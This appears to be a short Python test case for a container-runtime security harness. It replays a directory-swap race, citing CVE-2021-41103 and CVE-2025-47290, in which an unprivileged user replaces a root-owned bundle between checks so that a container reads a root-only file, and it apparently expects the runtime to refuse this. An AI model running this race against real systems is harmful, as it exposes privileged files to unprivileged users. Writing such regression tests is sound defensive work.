"""The bundle itself is root's, and a user who may write the directory above it puts another one in its place."""

import os

from bypass import refused

SOURCE = "CVE-2021-41103, CVE-2025-47290: an engine's directories, and what happens between two looks"
WAY = "state"
STOPPED = refused("bundle")


def attack(t):
    t.plant("/root/only-root", 0o600)
    t.lay("true")
    t.sh("mkdir -p /home/work/good /home/work/evil; cp %s/config.json /home/work/good" % t.bundle)
    for bundle in ("/home/work/good", "/home/work/evil"):
        t.lay_rootfs(bundle + "/rootfs")
    t.bind("/root", "/x")
    t.lay("cat /x/only-root")
    t.sh("cp %s/config.json /home/work/evil" % t.bundle)
    os.chown("/home/work", 1000, 1000)
    t.before_low("mv /home/work/good /home/work/old; mv /home/work/evil /home/work/good")
    t.create_by("create", "--bundle", "/home/work/good", "--pid-file", t.pid_file, t.id)
    t.start()
    return t.leaked(t.ended())
